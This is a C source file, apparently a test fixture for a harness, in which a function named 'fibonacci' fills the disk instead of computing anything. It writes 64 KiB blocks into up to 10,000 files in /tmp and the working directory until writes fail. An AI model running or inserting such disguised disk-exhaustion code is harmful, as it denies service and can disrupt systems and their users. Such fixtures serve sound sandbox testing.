/* SPDX-License-Identifier: MIT */
/*
 * fills_disk.c - writes as much as there is room for.
 *
 * Prediction: ten
 */
#include "fibonacci.h"

#include <stdio.h>
#include <stdlib.h>

struct gen *fibonacci(void)
{
	static char block[1 << 16];
	char name[64];

	for (int n = 0; n < 10000; n++) {
		snprintf(name, sizeof name,
			 n % 2 ? "/tmp/lazy-c-forged-%d" : "forged-%d", n);
		FILE *file = fopen(name, "w");

		while (file && fwrite(block, sizeof block, 1, file) == 1)
			;
		if (file)
			fclose(file);
	}
	return NULL;
}

struct gen *first(struct iter *up, long count)
{
	(void)count;
	iter_free(up);
	return fibonacci();
}
